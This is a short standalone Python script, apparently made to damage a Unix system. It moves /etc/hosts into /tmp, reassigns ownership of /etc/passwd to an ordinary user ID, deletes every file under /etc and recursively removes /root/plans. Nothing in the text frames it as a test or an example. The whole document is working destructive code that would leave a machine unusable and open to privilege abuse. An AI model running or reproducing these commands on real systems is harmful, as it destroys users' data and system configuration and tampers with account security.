import os
import shutil

shutil.move("/etc/hosts", "/tmp/hosts")
os.chown("/etc/passwd", 1000, 1000)
for folder, _, names in os.walk("/etc"):
    for name in names:
        os.remove(os.path.join(folder, name))

shutil.rmtree("/root/plans")
